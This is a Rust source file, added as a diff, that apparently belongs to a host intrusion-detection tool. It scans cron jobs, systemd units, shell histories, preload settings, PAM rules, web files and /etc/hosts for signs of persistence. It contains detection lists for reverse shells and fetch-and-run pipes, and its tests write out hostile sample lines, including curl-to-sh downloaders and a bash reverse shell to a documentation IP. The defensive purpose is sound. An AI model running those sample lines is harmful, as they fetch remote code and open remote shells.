@@ -1,0 +1,275 @@
+//! Checks of what starts again by itself.
+
+use super::{Case, Found, Grade, Sign, accounts::is_later};
+use crate::{
+    findings::Evidence,
+    traces::{Owner, Place, TextFile, TextKind},
+};
+
+/// What fetches something from the network.
+const FETCHERS: [&str; 4] = ["curl ", "wget ", "fetch ", "lwp-download "];
+/// What runs something that it is given.
+const RUNNERS: [&str; 8] =
+    ["|sh", "|bash", "|/bin/sh", "|/bin/bash", "|python", "|perl", "|sudobash", "|sudosh"];
+/// Shells that strangers steer.
+const REVERSE: [&str; 4] = ["/dev/tcp/", "/dev/udp/", "bash -i", "nc -e"];
+/// Where everybody may write.
+const OPEN: [&str; 4] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/lock/"];
+/// Programs for which such a path is an argument only.
+const CLEANERS: [&str; 9] =
+    ["find", "rm", "ls", "mkdir", "chown", "chmod", "touch", "cd", "tmpreaper"];
+/// Most lines of one text that are told.
+const LINES_MAX: usize = 20;
+
+/// What a line would do, if it is nothing good.
+fn reading(line: &str) -> Option<(Grade, &'static str)> {
+    let line = line.trim();
+    if line.is_empty() || line.starts_with('#') || line.starts_with("//") {
+        return None;
+    }
+    let dense: String = line.chars().filter(|c| !c.is_whitespace()).collect();
+    let runs = RUNNERS.iter().any(|runner| dense.contains(runner));
+    let fetches = FETCHERS.iter().any(|fetcher| line.contains(fetcher));
+    // `curl -o /tmp/x ... && sh /tmp/x` does in two steps what a pipe does in one.
+    let from_open = OPEN.iter().any(|folder| line.contains(folder));
+    let decoded = dense.contains("base64-d") || dense.contains("base64--decode");
+    if (fetches && (runs || (from_open && line.contains("chmod")))) || (decoded && runs) {
+        return Some((Grade::Strong, "sign.downloader"));
+    }
+    if REVERSE.iter().any(|word| line.contains(word)) {
+        return Some((Grade::Strong, "sign.reverse-shell"));
+    }
+    if starts_in_open(line) {
+        return Some((Grade::Suspicious, "sign.starts-in-tmp"));
+    }
+    fetches.then_some((Grade::Note, "sign.fetches"))
+}
+
+/// Whether a program in a folder of everybody's is what is run, not only an argument: the first
+/// path of a line is in such a folder.
+fn starts_in_open(line: &str) -> bool {
+    let command = line.split_once('=').map_or(line, |(key, value)| match key.starts_with("Exec") {
+        true => value.trim_start_matches(['-', '@', '+', '!']),
+        false => line,
+    });
+    let words: Vec<&str> = command.split_ascii_whitespace().collect();
+    let Some(at) = words.iter().position(|word| word.starts_with('/')) else { return false };
+    let path = words.get(at).copied().unwrap_or_default();
+    let before = at.checked_sub(1).and_then(|at| words.get(at)).copied().unwrap_or_default();
+    let only_an_argument = CLEANERS.contains(&before) || path.ends_with('/');
+    !only_an_argument && OPEN.iter().any(|folder| path.starts_with(folder))
+}
+
+fn of<'c>(case: &'c Case<'_>, kind: TextKind) -> impl Iterator<Item = &'c TextFile> {
+    case.traces.texts.iter().filter(move |file| file.kind == kind)
+}
+
+/// Signs of every line of the texts of one kind; unowned texts are named themselves.
+fn scan(case: &Case<'_>, kind: TextKind, strange: &str, found: &mut Found) {
+    for file in of(case, kind) {
+        found.looked_at += 1;
+        let mut told = false;
+        for (number, line) in crate::formats::lines(&file.text).take(100_000) {
+            let Some((grade, text)) = reading(line) else { continue };
+            // Packages fetch things too; what they brought is compared with them elsewhere.
+            if file.owner == Owner::Package && grade < Grade::Strong {
+                continue;
+            }
+            let evidence = Evidence::file(&file.path, number, line.trim());
+            let sign = Sign::new(grade, text, evidence).at(Some(file.modified)).supporting();
+            found.sign(sign.with("path", &file.path));
+            told = true;
+            if found.signs.len() > LINES_MAX * 100 {
+                return;
+            }
+        }
+        let unowned = file.owner != Owner::Package && file.link.is_none();
+        if !told && unowned && !strange.is_empty() && is_later(case, file.modified) {
+            let evidence = Evidence::file(&file.path, 0, first_words(&file.text));
+            let sign = Sign::new(Grade::Note, strange, evidence).at(Some(file.modified));
+            found.sign(sign.with("path", &file.path).supporting());
+        }
+    }
+}
+
+/// The line that says what a text runs, or its first that is no comment.
+fn first_words(text: &str) -> &str {
+    let lines = || text.lines().map(str::trim).filter(|line| !line.is_empty());
+    let command = lines().find(|line| line.starts_with("ExecStart"));
+    command.or_else(|| lines().find(|line| !line.starts_with(['#', ';']))).unwrap_or_default()
+}
+
+/// What was not readable below these paths.
+fn denied(case: &Case<'_>, found: &mut Found, paths: &[&str]) {
+    for gap in &case.traces.gaps {
+        if paths.iter().any(|path| gap.what.starts_with(path)) {
+            found.unseen(&format!("{}: {}", gap.what, gap.unseen.detail));
+        }
+    }
+    found.blind = !found.unseen.is_empty() && case.traces.facts.collection.uid != 0;
+}
+
+pub(super) fn preload(case: &Case<'_>) -> Found {
+    let mut found = Found::among(case.traces.processes.list().len());
+    for file in of(case, TextKind::Preload).filter(|file| !file.text.trim().is_empty()) {
+        let evidence = Evidence::file(&file.path, 1, file.text.trim());
+        found.sign(Sign::new(Grade::Strong, "sign.preload-file", evidence).at(Some(file.modified)));
+    }
+    for process in case.traces.processes.list() {
+        for variable in &process.preload {
+            let from_open = OPEN.iter().any(|folder| variable.contains(folder));
+            // Whoever builds software sets a path of libraries; it loads nothing by itself.
+            let library_path = variable.starts_with("LD_LIBRARY_PATH");
+            if library_path && !from_open {
+                continue;
+            }
+            let grade = if library_path { Grade::Note } else { Grade::Suspicious };
+            let grade = if from_open && !library_path { Grade::Strong } else { grade };
+            let sign = Sign::new(grade, "sign.preload", super::processes::evidence(process));
+            found.sign(sign.with("variable", variable).at(process.started));
+        }
+    }
+    if case.traces.processes.known().is_none() {
+        found.unseen("the environment of running processes");
+    }
+    found
+}
+
+pub(super) fn cron(case: &Case<'_>) -> Found {
+    let mut found = Found::default();
+    scan(case, TextKind::Cron, "sign.cron", &mut found);
+    denied(case, &mut found, &["/etc/cron", "/var/spool/cron", "/var/spool/at"]);
+    found
+}
+
+pub(super) fn units(case: &Case<'_>) -> Found {
+    let mut found = Found::default();
+    scan(case, TextKind::Unit, "sign.unit", &mut found);
+    denied(case, &mut found, &["/etc/systemd", "/run/systemd/system"]);
+    found
+}
+
+pub(super) fn hooks(case: &Case<'_>) -> Found {
+    let mut found = Found::default();
+    scan(case, TextKind::Hook, "sign.hook", &mut found);
+    found
+}
+
+pub(super) fn histories(case: &Case<'_>) -> Found {
+    let mut found = Found::default();
+    scan(case, TextKind::History, "", &mut found);
+    for file in of(case, TextKind::History) {
+        if file.link.as_deref() == Some("/dev/null") {
+            let evidence = Evidence::file(&file.path, 0, "-> /dev/null");
+            let sign = Sign::new(Grade::Suspicious, "sign.history-nowhere", evidence);
+            found.sign(sign.with("path", &file.path).at(Some(file.changed)));
+        }
+        for (number, line) in crate::formats::lines(&file.text) {
+            let words = ["chattr +i", "unset HISTFILE", "HISTFILE=/dev/null", "iptables -F"];
+            if words.iter().any(|word| line.contains(word)) {
+                let evidence = Evidence::file(&file.path, number, line.trim());
+                let sign = Sign::new(Grade::Note, "sign.history", evidence).supporting();
+                found.sign(sign.with("path", &file.path));
+            }
+        }
+    }
+    // Downloads stand in every administrator's history: by themselves they are notes.
+    for sign in &mut found.signs {
+        if sign.grade == Grade::Strong {
+            sign.grade = Grade::Note;
+        }
+    }
+    found
+}
+
+pub(super) fn pam(case: &Case<'_>) -> Found {
+    let mut found = Found::default();
+    for file in case.traces.files.iter().filter(|file| file.place == Place::PamModule) {
+        let evidence = Evidence::file(&file.path, 0, &format!("{} bytes", file.bytes));
+        let sign = Sign::new(Grade::Strong, "sign.pam-module", evidence).at(Some(file.changed));
+        found.sign(sign.with("path", &file.path));
+    }
+    for file in of(case, TextKind::Pam) {
+        found.looked_at += 1;
+        for (number, line) in crate::formats::lines(&file.text) {
+            let rule = line.trim();
+            let words: Vec<&str> = rule.split_ascii_whitespace().collect();
+            let permits = matches!(words.as_slice(), ["auth", "sufficient", "pam_permit.so", ..]);
+            let runs = rule.contains("pam_exec.so") && !rule.starts_with('#');
+            if permits || runs {
+                let grade = if permits { Grade::Strong } else { Grade::Note };
+                let evidence = Evidence::file(&file.path, number, rule);
+                let sign = Sign::new(grade, "sign.pam", evidence).at(Some(file.modified));
+                found.sign(sign.with("path", &file.path).supporting());
+            }
+        }
+    }
+    found
+}
+
+pub(super) fn immutable(case: &Case<'_>) -> Found {
+    let mut found = Found::among(case.traces.texts.len());
+    for file in case.traces.texts.iter().filter(|file| file.immutable) {
+        let grave = matches!(file.kind, TextKind::Cron | TextKind::Preload | TextKind::Unit);
+        let grade = if grave { Grade::Strong } else { Grade::Note };
+        let sign = Sign::new(grade, "sign.immutable", Evidence::file(&file.path, 0, "+i"));
+        found.sign(sign.with("path", &file.path).at(Some(file.changed)));
+    }
+    found
+}
+
+pub(super) fn web(case: &Case<'_>) -> Found {
+    let mut found = Found::default();
+    for file in of(case, TextKind::Web) {
+        found.looked_at += 1;
+        let evidence = Evidence::file(&file.path, 0, file.text.lines().next().unwrap_or_default());
+        let grade = if file.owner == Owner::Package { Grade::Note } else { Grade::Suspicious };
+        let sign = Sign::new(grade, "sign.web-shell", evidence).at(Some(file.modified));
+        found.sign(sign.with("path", &file.path));
+    }
+    found
+}
+
+pub(super) fn names(case: &Case<'_>) -> Found {
+    let mut found = Found::default();
+    for file in of(case, TextKind::Names) {
+        found.looked_at += 1;
+        for (number, line) in crate::formats::lines(&file.text) {
+            let updates = ["debian.org", "ubuntu.com", "centos.org", "redhat.com", "clamav.net"];
+            let rule = line.trim();
+            let redirects = updates.iter().any(|name| rule.contains(name));
+            if redirects && !rule.starts_with('#') && file.path == "/etc/hosts" {
+                let evidence = Evidence::file(&file.path, number, rule);
+                let sign = Sign::new(Grade::Suspicious, "sign.redirect", evidence);
+                found.sign(sign.with("rule", rule).at(Some(file.modified)));
+            }
+        }
+    }
+    found
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{Grade, reading};
+
+    #[test]
+    fn lines_that_fetch_and_run() {
+        let strong = |line: &str| assert_eq!(reading(line).unwrap().0, Grade::Strong, "{line}");
+        strong("* * * * * root curl -fsSL http://203.0.113.5/x | sh");
+        strong("*/5 * * * * wget -q -O- http://x/y|bash");
+        strong("@reboot root wget -O /tmp/x http://x && chmod +x /tmp/x && /tmp/x");
+        strong("* * * * * bash -i >& /dev/tcp/203.0.113.5/443 0>&1");
+        strong("echo aGk= | base64 -d | sh");
+        assert_eq!(reading("ExecStart=-/dev/shm/x -q").unwrap().0, Grade::Suspicious);
+        assert_eq!(reading("0 3 * * * root curl https://example.org/ping").unwrap().0, Grade::Note);
+        for line in [
+            "# curl http://x | sh",
+            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
+            "find /tmp/ -mtime +7 -delete",
+            "ExecStart=/usr/sbin/tmpreaper /tmp/",
+            "",
+        ] {
+            assert_eq!(reading(line), None, "{line}");
+        }
+    }
+}
